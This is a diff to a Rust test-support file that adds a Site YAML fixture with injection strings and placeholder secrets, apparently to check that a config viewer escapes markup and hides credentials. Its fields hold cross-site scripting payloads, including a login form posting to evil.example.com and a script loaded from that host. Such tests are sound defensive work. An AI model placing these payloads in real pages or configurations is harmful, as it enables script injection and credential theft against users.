@@ -48,6 +48,42 @@ spec:
     )
 }
 
+/// A Site whose strings try to inject markup and script, with secrets that must not show.
+pub const HOSTILE_SITE: &str = r#"apiVersion: core.posit.team/v1beta1
+kind: Site
+metadata:
+  name: main
+  namespace: posit-team
+spec:
+  domain: posit.example.com
+  flightdeck:
+    featureEnabler:
+      showConfig: true
+  connect:
+    image: "posit/connect:<script>alert('image')</script>"
+    loggedInWarning: "<script>document.title='pwned'</script>"
+    publicWarning: "\"><img src=x onerror=\"document.title='pwned'\">"
+    license:
+      type: KEY
+      key: LICENSE-KEY-SECRET-1234
+    addEnv:
+      DB_PASSWORD: hunter2-secret-value
+      CONNECT_DATABASE: "postgres://connect:pg-secret-pw@db.example.com/connect"
+      "<b>bold</b>": "</code></pre><script>alert('env')</script>"
+      PROXY: "https://user:proxy-secret-pw@proxy.example.com:3128"
+    experimentalFeatures:
+      sessionEnvVars:
+        - name: API_TOKEN
+          value: tok-secret-999
+        - name: GREETING
+          value: "<i>hello</i>"
+  workbench:
+    authLoginPageHtml: "<form action=https://evil.example.com><input name=p></form><script src=//evil.example.com/x.js></script>"
+    snowflake:
+      accountId: acct
+      clientId: "'; alert(1); '"
+"#;
+
 /// Writes `yaml` to a scratch file.
 pub fn site_file(yaml: &str) -> PathBuf {
     let path = test_support::scratch_dir("flightdeck-site").join("site.yaml");
